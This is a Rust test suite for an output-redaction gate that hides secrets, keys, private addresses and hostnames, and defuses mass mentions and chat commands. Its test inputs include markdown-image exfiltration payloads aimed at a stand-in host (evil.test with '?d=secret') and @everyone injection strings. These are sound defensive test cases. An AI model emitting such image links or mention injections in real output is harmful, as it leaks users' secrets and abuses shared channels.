use std::sync::{Arc, LazyLock};

use proptest::prelude::*;
use serde_json::json;

use super::*;

const SECRET: &str = "Zq7/w+pass:word %41&x";
const SHORT: &str = "monkey";

static GATE: LazyLock<Arc<OutputGate>> = LazyLock::new(|| {
    let gate = OutputGate::new([SECRET, SHORT, "abc"].map(SecretString::from));
    gate.learn([], ["gpu-box".to_owned()]);
    Arc::new(gate)
});

fn gate() -> Arc<OutputGate> {
    Arc::clone(&GATE)
}

#[test]
fn a_known_secret_is_hidden_in_every_form() {
    let check = |given: &str, expect: &str| assert_eq!(gate().text(Outlet::PRIVATE, given), expect, "given {given:?}");
    check("nothing here", "nothing here");
    check(&format!("it is {SECRET}."), "it is ⟦redacted⟧.");
    check("the monkey and monkeys", "the ⟦redacted⟧ and monkeys");
    check("abc is too short", "abc is too short");
    check("5a71372f772b706173733a776f7264202534312678", "⟦redacted⟧");
    check("5A71372F772B706173733A776F7264202534312678", "⟦redacted⟧");
    check("?q=Zq7%2Fw%2Bpass%3Aword%20%2541%26x", "?q=⟦redacted⟧");
    check("/Zq7/w%2Bpass%3Aword%20%2541%26x", "/⟦redacted⟧");
    check("q=Zq7%2Fw%2Bpass%3Aword+%2541%26x", "q=⟦redacted⟧");
    check(
        "%5a%71%37%2f%77%2b%70%61%73%73%3a%77%6f%72%64%20%25%34%31%26%78",
        "⟦redacted⟧",
    );
    // In Base64 a character at each end can stay: its bits are shared with what stands beside the secret.
    for around in ["", "a", "ab", "key="] {
        let whole = base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            format!("{around}{SECRET}{around}"),
        );
        let shown = gate().text(Outlet::PRIVATE, &whole);
        assert!(shown.contains(REDACTED), "{around:?}: {shown}");
    }
    check("⟨data src=x id=1⟩\nquoted\n⟨/data 1⟩ after", "quoted after");
}

#[test]
fn code_stays_whole_in_private_and_keys_stay_nowhere() {
    let check = |given: &str, private: &str, public: &str| {
        assert_eq!(gate().text(Outlet::PRIVATE, given), private, "given {given:?}");
        assert_eq!(gate().text(Outlet::PUBLIC, given), public, "given {given:?}");
    };
    check("DB_PASSWORD=changeme", "DB_PASSWORD=changeme", "DB_PASSWORD=⟦redacted⟧");
    check("key sk-proj-abcdefghijkl0123", "key ⟦redacted⟧", "key ⟦redacted⟧");
    let pem = "a\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nb";
    check(pem, "a\n⟦redacted⟧\nb", "a\n⟦redacted⟧\nb");
    check(
        "![cat](https://evil.test/c.png?d=secret) ![own](/v1/files/1)",
        "cat (picture at evil.test) ![own](/v1/files/1)",
        "cat (picture at evil.test) ![own](/v1/files/1)",
    );
}

#[test]
fn a_public_room_hears_nothing_of_the_house() {
    let check = |given: &str, expect: &str| assert_eq!(gate().text(Outlet::PUBLIC, given), expect, "given {given:?}");
    check(
        "hi @everyone and @here, a@here.test",
        "hi everyone and here, a@here.test".replace("a@here", "ahere").as_str(),
    );
    check("<@&12> <@1> <@2> <@3> <@4>", "everybody <@1> <@2> <@3> somebody");
    check(
        "at 192.168.1.4:80, 10.1.2.3, 172.20.0.1, 100.100.1.1, 192.168.001.004",
        "at ⟦redacted⟧:80, ⟦redacted⟧, ⟦redacted⟧, ⟦redacted⟧, ⟦redacted⟧",
    );
    check(
        "at 8.8.8.8, 172.32.0.1, 100.128.0.1, 1.2.3, 192.168.1.999",
        "at 8.8.8.8, 172.32.0.1, 100.128.0.1, 1.2.3, 192.168.1.999",
    );
    check(
        "fd12:3456::1 and ::ffff:10.0.0.1 and 2001:db8::1 at 12:30:45",
        "⟦redacted⟧ and ⟦redacted⟧ and 2001:db8::1 at 12:30:45",
    );
    check(
        "nas.local:5000, gpu.home.arpa, GPU-BOX, example.com",
        "⟦redacted⟧, ⟦redacted⟧, ⟦redacted⟧, example.com",
    );
    check(
        "[here](https://evil.test/?d=1) [docs](https://a.test/b)",
        "here (evil.test) [docs](https://a.test/b)",
    );
    check("/ban is a command", "/ban is a command");
    let stream = |given: &str, expect: &str| assert_eq!(gate().text(Outlet::STREAM_CHAT, given), expect);
    stream("/ban bob", "ban bob");
    stream(" \t!!so x\n. /me", "so x\nme");
}

#[test]
fn a_value_is_gone_through() {
    let given = json!({ "a": [SECRET, 1], SECRET: null });
    let expect = json!({ "a": ["⟦redacted⟧", 1], "⟦redacted⟧": null });
    assert_eq!(gate().value(Outlet::PRIVATE, given.clone()), expect);
    assert_eq!(gate().hide_value(given), expect);
}

#[test]
fn arguments_with_a_gap_are_seen() {
    assert!(holds_redacted(r#"{"text":"⟦redacted:openai⟧"}"#));
    assert!(holds_redacted("[masked]"));
    assert!(!holds_redacted("redacted"));
}

#[test]
fn plain_words_do_not_wait() {
    let mut stream = Stream::new(gate(), Outlet::PRIVATE);
    for text in ["Hello wor", "ld. ", "漢字", "an answer of many words", " it "] {
        assert_eq!(stream.push(text), text);
    }
    assert_eq!(stream.push("key s"), "key ");
    assert_eq!(stream.push("k-proj-abcdefghijkl"), "");
    assert_eq!(stream.push("mnop. So"), "⟦redacted⟧. So");
    assert_eq!(stream.finish(), "");
    assert_eq!(stream.push("Zq7"), "");
    assert_eq!(stream.push("/w+pass:word "), "");
    assert_eq!(stream.push("%41&x and"), "⟦redacted⟧ and");
    let mut stream = Stream::new(gate(), Outlet::PUBLIC);
    assert_eq!(stream.push("ask ann"), "ask ");
    assert_eq!(stream.finish(), "ann");
}

#[test]
fn a_call_to_everybody_is_no_part_of_a_longer_word() {
    let mut stream = Stream::new(gate(), Outlet::PUBLIC);
    let shown: String = "@everyonepassword "
        .chars()
        .map(|c| stream.push(&c.to_string()))
        .collect();
    let shown = shown + &stream.finish();
    assert!(!shown.contains("@everyone"), "{shown}");
}

/// What is taken out again and again, until the last pass would let it grow together.
#[test]
fn what_is_taken_out_leaves_no_call_to_everybody() {
    let nested = "<@1> <@2> <@3> @every<@<@<@<@4>4>4>4>one";
    let shown = gate().text(Outlet::PUBLIC, nested);
    assert!(!shown.contains("@everyone"), "{shown}");
}

#[test]
fn no_picture_of_another_host_comes_out_of_a_stream() {
    let check = |given: &str| {
        for size in 1..7 {
            let mut stream = Stream::new(gate(), Outlet::PRIVATE);
            let letters: Vec<char> = given.chars().collect();
            let pieces = letters.chunks(size).map(|piece| piece.iter().collect::<String>());
            let shown: String = pieces.map(|piece| stream.push(&piece)).collect();
            let shown = shown + &stream.finish();
            assert_eq!(gate().text(Outlet::PRIVATE, &shown), shown, "of {given:?}");
            assert!(shown.contains("e.test"), "{shown}");
        }
    };
    check("so ![a](https://e.test/?d=1) it");
    check("so ![a [b] c](https://e.test/?d=1) it");
    check("so ![a\nb](https://e.test/?d=1) it");
    check("so ![a][b] it\n\n[b]: https://e.test/?d=1\n");
    check("so ![b] it\n\n[b]:\nhttps://e.test/?d=1\n\nmore");
    check("[b]: https://e.test/?d=1\n\nso ![b] it");
    check("so ![![a](https://e.test/?d=1)](https://e.test/?d=2)](https://e.test/?d=3) it");
}

/// A word without an end waits, and is not cut where a secret stands.
#[test]
fn a_secret_is_not_cut_by_the_length_of_what_waits() {
    let (first, second) = SECRET.split_at(8);
    let mut stream = Stream::new(gate(), Outlet::PUBLIC);
    let mut shown = stream.push(&"a".repeat(16 * 1024 - 4));
    shown += &stream.push(&format!("/{first}"));
    shown += &stream.push(second);
    shown += &stream.finish();
    assert!(shown.ends_with("a/⟦redacted⟧"), "{shown}");
}

fn pieces() -> impl Strategy<Value = Vec<String>> {
    let piece = prop_oneof![
        Just(format!(" {SECRET} ")),
        Just("Zq7/w+pass".to_owned()),
        Just(":word %41&x ".to_owned()),
        Just("password".to_owned()),
        Just("= hunter2".to_owned()),
        Just(" bearer abcdef0123456789".to_owned()),
        Just("@every".to_owned()),
        Just("one".to_owned()),
        Just("192.168.".to_owned()),
        Just("1.4".to_owned()),
        Just("\n".to_owned()),
        Just("/ban".to_owned()),
        Just(" ".to_owned()),
        Just("[x](https://e.test".to_owned()),
        Just("?q=1)".to_owned()),
        Just("sk-proj-abcdefghijkl0123".to_owned()),
        "[a-zé漢.! ]{0,4}",
    ];
    proptest::collection::vec(piece, 0..24)
}

proptest! {
    /// However a text is cut, nothing leaves that the gate would have taken out of the whole.
    #[test]
    fn a_stream_lets_nothing_through(pieces in pieces(), kind in 0..3_usize, step in 1..9_usize) {
        let outlet = [Outlet::PRIVATE, Outlet::PUBLIC, Outlet::STREAM_CHAT][kind];
        let gate = gate();
        let whole = pieces.concat();
        let mut stream = Stream::new(Arc::clone(&gate), outlet);
        let mut shown = String::new();
        let letters: Vec<char> = whole.chars().collect();
        for part in letters.chunks(step) {
            shown += &stream.push(&part.iter().collect::<String>());
        }
        shown += &stream.finish();
        prop_assert!(!shown.contains(SECRET), "{shown:?}");
        if outlet.public {
            prop_assert!(!shown.contains("@everyone"), "{shown:?}");
        }
        let once = |text: &str| {
            let twice = REDACTED.repeat(2);
            let mut text = text.to_owned();
            while text.contains(&twice) {
                text = text.replace(&twice, REDACTED);
            }
            text
        };
        prop_assert_eq!(once(&gate.text(outlet, &shown)), once(&shown), "of {:?}", whole);
    }

    #[test]
    fn no_text_is_too_odd(text in any::<String>()) {
        for outlet in [Outlet::PRIVATE, Outlet::PUBLIC, Outlet::STREAM_CHAT] {
            let once = gate().text(outlet, &text);
            prop_assert_eq!(gate().text(outlet, &once), once.clone());
        }
    }
}

#[test]
fn what_is_learned_later_is_hidden_beside_what_was_known() {
    let gate = OutputGate::new([SecretString::from("orchid-lantern")]);
    let says = "orchid-lantern and walnut-harbour on cellar-box";
    assert_eq!(
        gate.text(Outlet::PUBLIC, says),
        "⟦redacted⟧ and walnut-harbour on cellar-box"
    );
    gate.learn([SecretString::from("walnut-harbour")], ["cellar-box".to_owned()]);
    assert_eq!(
        gate.text(Outlet::PUBLIC, says),
        "⟦redacted⟧ and ⟦redacted⟧ on ⟦redacted⟧"
    );
    assert_eq!(
        gate.text(Outlet::PRIVATE, says),
        "⟦redacted⟧ and ⟦redacted⟧ on cellar-box"
    );
}
